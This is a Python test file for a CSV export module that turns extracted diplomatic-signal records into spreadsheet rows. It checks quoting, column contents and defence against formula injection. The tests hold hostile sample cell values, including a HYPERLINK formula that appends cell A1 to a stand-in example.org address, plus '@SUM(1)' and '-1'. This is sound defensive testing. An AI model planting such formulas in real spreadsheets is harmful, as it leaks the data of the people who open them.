"""A spreadsheet shows the rows, runs none of them, and gives every word back."""

import csv
import io
import re
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from backchannel.domain.kept import Kept
from backchannel.domain.reading import Reading
from backchannel.domain.reviews import Opinion, State
from backchannel.domain.signals import Gap, Interval, Source, SourceKind, Time
from backchannel.domain.text import Appearance, Document, Span, Stated
from backchannel.write.sheets import COLUMNS, Cell, write_rows, write_sheet
from tests import fakes
from tests.write.kept import kept, kept_documents

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"open")'
ACTING = tuple("=+-@\t\r\n\0＝＋－＠")


def rows(*documents: Kept) -> list[dict[str, str]]:
    stream = io.StringIO(newline="")
    write_sheet(documents, stream)
    stream.seek(0)
    return list(csv.DictReader(stream))


def cells(*values: Cell) -> list[str]:
    """Write one row and read it back."""
    stream = io.StringIO(newline="")
    write_rows([str(at) for at, _ in enumerate(values)], [values], stream)
    stream.seek(0)
    return list(csv.reader(stream))[1]


def plain(cell: str) -> str:
    """Take the apostrophe away again, as the module says."""
    guarded = re.match("'+[=+\\-@\t\r\n\0＝＋－＠]", cell)
    return cell[1:] if guarded else cell


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2))
def test_any_text_is_no_formula_and_comes_back(texts: Sequence[str]) -> None:
    written = cells(*texts)
    assert [plain(cell) for cell in written] == texts
    assert not [cell for cell in written if cell.startswith(ACTING)]


@given(kept_documents())
def test_each_signal_is_a_row_that_quotes_its_text(document: Kept) -> None:
    written = rows(document)
    assert [plain(row["id"]) for row in written] == [
        signal.id for signal in document.reading.signals
    ]
    for row, signal in zip(written, document.reading.signals, strict=True):
        assert plain(row["sentence"]) == document.document.quote(signal.sentence)
        assert plain(row["trigger"]) == document.document.quote(signal.trigger)
        content = signal.content and document.document.quote(signal.content)
        assert plain(row["content"]) == (content or "")
        assert None not in row
        assert None not in row.values()


@pytest.mark.parametrize("start", ACTING, ids=repr)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(start: str) -> None:
    assert cells(f"{start}1+1") == [f"'{start}1+1"]


def test_apostrophe_of_a_text_is_told_from_ours() -> None:
    assert cells("'=1", "'tis", "'") == ["''=1", "'tis", "'"]


def test_numbers_and_days_stay_as_they_are() -> None:
    assert cells(-5, -0.25, date(1978, 11, 9), None) == [
        "-5",
        "-0.25",
        "1978-11-09",
        "",
    ]


def test_rows_end_as_rfc_4180_says() -> None:
    stream = io.StringIO(newline="")
    write_rows(["a", "b"], [['say "no"', "x,y"], ["two\nlines", ""]], stream)
    assert stream.getvalue() == ('a,b\r\n"say ""no""","x,y"\r\n"two\nlines",\r\n')


def test_no_documents_give_the_names_of_the_columns_only() -> None:
    stream = io.StringIO()
    assert write_sheet([], stream) == 0
    assert stream.getvalue() == ",".join(COLUMNS) + "\r\n"


def test_unread_document_has_no_row() -> None:
    assert (
        rows(kept(Reading(Document("d1", "Rien."), unread="language is French"))) == []
    )


def test_row_tells_who_when_on_whose_word_and_what_reviews_said() -> None:
    reading = fakes.reading(
        "[sender Russia] and [sender Belarus] [trigger warned] [recipient Iran] through"
        " [intermediary Oman] in May, officials said, [condition if hit]",
        title="A warning",
        outlet="Harbour Wire",
        published=date(2024, 6, 1),
    )
    text = reading.document.text
    may, officials = text.index("May"), text.index("officials")
    signal = replace(
        reading.signals[0],
        time=Time(Span(may, may + 3), Interval(date(2024, 5, 1), date(2024, 5, 31))),
        attribution=(
            Source(Span(officials, officials + 9), SourceKind.ANONYMOUS, None),
            Source(Span(0, 6), SourceKind.OUTLET, "Wire"),
        ),
        confidence={"signal": 0.87654, "act": 0.5},
        gaps=(Gap("channel", "not told"), Gap("time", "vague")),
    )
    opinion = Opinion(State.CORRECTED, {}, ("nuclear", "to check"), ("a note",))
    [row] = rows(
        kept(replace(reading, signals=(signal,)), opinions={signal.id: opinion})
    )
    assert row == {
        "id": "s1",
        "document": "d1",
        "outlet": "Harbour Wire",
        "title": "A warning",
        "url": "",
        "published": "2024-06-01",
        "day_from": "2024-05-01",
        "day_until": "2024-05-31",
        "act": "warn",
        "status": "done",
        "channel": "unknown",
        "senders": "Russia; Belarus",
        "sender_sides": "unknown; unknown",
        "recipients": "Iran",
        "recipient_sides": "unknown",
        "intermediaries": "Oman",
        "intermediary_sides": "unknown",
        "trigger": "warned",
        "sentence": text,
        "content": "",
        "condition": "if hit",
        "consequence": "",
        "time": "May",
        "attribution": "“officials”; Wire",
        "source_kinds": "anonymous; outlet",
        "gaps": "channel: not told; time: vague",
        "confidence": "0.877",
        "review": "corrected",
        "tags": "nuclear; to check",
        "notes": "a note",
    }


def test_signal_without_sender_date_or_probability_has_empty_cells() -> None:
    [row] = rows(kept(fakes.reading("[trigger Talks] went on")))
    empty = ("outlet", "published", "day_from", "senders", "confidence", "notes")
    assert [row[name] for name in empty] == [""] * len(empty)
    assert row["review"] == "unreviewed"


def test_hostile_title_and_name_are_only_text() -> None:
    title = Stated(f"{FORMULA}\udcff", "input")
    document = Document("d1", FORMULA, appearance=Appearance(title=title))
    [signal] = fakes.reading("[sender Iran] [trigger warned]").signals
    sender = replace(signal.sender[0], actor="@SUM(1)", side="-1")
    reading = Reading(document, (replace(signal, sender=(sender,)),))
    [row] = rows(kept(reading))
    assert row["title"] == f"'{FORMULA}\ufffd"
    assert (row["senders"], row["sender_sides"]) == ("'@SUM(1)", "'-1")


def test_rows_are_out_before_the_next_document_is_read() -> None:
    stream = io.StringIO(newline="")

    def read() -> Iterator[Kept]:
        for count in range(3):
            assert stream.getvalue().count("\r\n") == count + 1
            yield kept(fakes.reading("[sender Iran] [trigger warned]"))

    assert write_sheet(read(), stream) == 3
